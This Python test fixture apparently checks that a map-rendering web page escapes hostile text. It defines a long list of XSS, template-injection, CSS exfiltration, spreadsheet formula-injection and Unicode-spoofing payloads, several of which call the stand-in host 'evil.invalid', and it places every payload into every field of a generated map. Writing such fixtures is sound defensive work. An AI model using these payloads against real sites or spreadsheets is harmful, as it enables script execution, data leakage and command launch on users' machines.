"""Texts that try to run, to call home or to break a page."""

import base64

import numpy as np

from vis_assets.page.content import ClusterLayer, MapContent
from vis_assets.page.fields import PayloadField

_RUN = "window.hacked=1"
_CALL = "//evil.invalid/x"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_RUN}"><script>{_RUN}</script></svg>'

PAYLOADS = (
    # elements
    f"<script>{_RUN}</script>",
    f"<ScRiPt/x>{_RUN}</sCrIpT >",
    f"<script src=https:{_CALL}></script>",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</textarea></noscript></template><img src=x onerror={_RUN}>",
    f"<!--<script>{_RUN}//-->",
    f"--><img src=x onerror={_RUN}>",
    f"]]><img src=x onerror={_RUN}>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror='{_RUN}'//",
    f"<svg onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<math><mi xlink:href=javascript:{_RUN}>x",
    f"<body onload={_RUN}>",
    f"<iframe src=javascript:{_RUN}>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    f"<object data=https:{_CALL}>",
    f"<embed src=https:{_CALL}>",
    f"<link rel=stylesheet href=https:{_CALL}>",
    f"<base href=https:{_CALL}>",
    f"<meta http-equiv=refresh content='0;url=https:{_CALL}'>",
    f"<form action=https:{_CALL}><button autofocus onfocus={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}>",
    f"<a href=javascript:{_RUN}>link</a>",
    f"<p style=background:url(https:{_CALL})>",
    f"<style>*{{background:url(https:{_CALL})}}</style>",
    # out of attributes and strings
    f'" autofocus onfocus="{_RUN}" x="',
    f"' onmouseover='{_RUN}' x='",
    f'"><img src=x onerror={_RUN}>',
    f"'-({_RUN})-'",
    f'";{_RUN};//',
    f"';{_RUN};//",
    f"\\';{_RUN};//",
    f"`-({_RUN})-`",
    f"${{{_RUN}}}",
    f"`${{{_RUN}}}`",
    "{{constructor.constructor('window.hacked=1')()}}",
    "{{ blocks }}{{ scripts }}{{ policy }}",
    f"{{%{_RUN}%}}<%={_RUN}%>#{{{_RUN}}}",
    f"\n{_RUN}\n",
    f"\u2028{_RUN}\u2029//",
    # addresses
    f"javascript:{_RUN}",
    f"java\tscript:{_RUN}",
    f"vbscript:{_RUN}",
    f"data:text/html,<script>parent.{_RUN}</script>",
    f"data:text/html;base64,{base64.b64encode(f'<script>parent.{_RUN}</script>'.encode()).decode()}",
    f"data:image/svg+xml;base64,{base64.b64encode(_SVG.encode()).decode()}",
    f"https:{_CALL}",
    _CALL,
    "file:///etc/passwd",
    # styles
    f"}};body{{background:url({_CALL})}}",
    f"red;background:url({_CALL})",
    f"expression({_RUN})",
    f"@import '{_CALL}';",
    "</style><style>*{display:none}",
    # data and names
    '{"a":1}',
    '"}],"layers":[{"clusters":[]}],"x":[{"y":"',
    "\\",
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.hacked=1&#62;",
    "%3Cscript%3Ewindow.hacked=1%3C/script%3E",
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "cluster",
    "id",
    "null",
    "NaN",
    "-1",
    # characters
    "\x00\x01\x1b[31mred\x7f",
    "\ud800 alone \udfff",
    "\u202ecod.exe\u202c",
    "\u2066\u2067turned\u2069",
    "\u200b\u200c\u200d\ufeffnothing to see\u2060",
    "Z̸̡̛͇a̷͔͌l̴͈̀g̵̨̈́o̶͚͝" * 20,
    "\U000e0041\U000e0042tags\U0010ffff",
    "A" * 20_000,
    "broad " * 3_000,
    "\t\r\n ",
    # spreadsheets
    '=HYPERLINK("https://evil.invalid/";"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "a\r\n=1+1",
    '=1,"2\n"',
)
"""Each is put into every field of one page."""

POINTS_EACH = 4
"""Points of each payload in `hostile_map`."""


def hostile_map() -> MapContent:
    """A map whose every text is a payload: row i, its cluster, id and fields hold payload i modulo their number.

    The payloads are also the names of fields, of all kinds. The last point of each is in no fine cluster.
    """
    count = len(PAYLOADS)
    rows = np.arange(POINTS_EACH * count)
    which = (rows % count).astype(np.int32)
    rng = np.random.default_rng(3)
    sites = np.stack([which % 10, which // 10], axis=1) * 4.0
    coordinates = (sites + rng.normal(scale=0.4, size=(len(rows), 2))).astype(np.float32)
    keyphrases = [[payload, payload] for payload in PAYLOADS]
    half = (which // 2).astype(np.int32)
    return MapContent(
        coordinates,
        np.where(rows < (POINTS_EACH - 1) * count, which, -1).astype(np.int32),
        PAYLOADS,
        [PAYLOADS[i] for i in which],
        [PAYLOADS[i] if row < count else f"{PAYLOADS[i]} {row}" for row, i in enumerate(which)],
        np.full(len(rows), 0.5, dtype=np.float32),
        keyphrases,
        (ClusterLayer(half, PAYLOADS[: half.max() + 1]), ClusterLayer(half // 2, PAYLOADS[-half.max() // 2 - 1 :])),
        tuple(_fields(which)),
    )


def _fields(which: np.ndarray) -> list[PayloadField]:
    """As many fields as there are payloads, named by them; categories and texts are payloads too."""
    values = [PAYLOADS[i] for i in which]
    found = []
    for place, name in enumerate(PAYLOADS):
        if place % 20 == 0:
            found.append(PayloadField(name, "category", which % 60, PAYLOADS[:60]))
        elif place % 20 == 1:
            found.append(PayloadField(name, "category", np.minimum(which, 59), (*PAYLOADS[60:], *PAYLOADS)[:60]))
        elif place % 20 == 2:
            found.append(
                PayloadField(name, "number", np.resize([1e308, -np.inf, np.nan, 0.0, -0.0, 5e-324], len(which)))
            )
        elif place % 20 == 3:
            found.append(PayloadField(name, "date", np.resize([8.64e15, -8.64e15, np.nan, 0.0, 9e99], len(which))))
        else:
            found.append(PayloadField(name, "text", values))
    return found
